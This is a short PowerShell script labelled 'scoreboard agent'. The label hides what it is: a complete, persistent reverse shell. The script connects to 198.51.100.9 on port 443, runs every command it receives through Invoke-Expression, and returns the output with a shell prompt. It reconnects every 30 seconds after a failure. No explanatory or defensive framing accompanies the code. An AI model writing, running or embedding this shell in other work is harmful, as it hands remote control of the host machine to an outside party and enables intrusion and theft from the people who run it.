# scoreboard agent
$h = '198.51.100.9'; $p = 443
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($h, $p)
    $s = $c.GetStream(); [byte[]]$b = 0..65535 | ForEach-Object { 0 }
    while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
      $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
      $r = (Invoke-Expression $d 2>&1 | Out-String) + 'PS ' + (Get-Location).Path + '> '
      $o = ([Text.Encoding]::ASCII).GetBytes($r); $s.Write($o, 0, $o.Length); $s.Flush()
    }
    $c.Close()
  } catch { Start-Sleep -Seconds 30 }
}
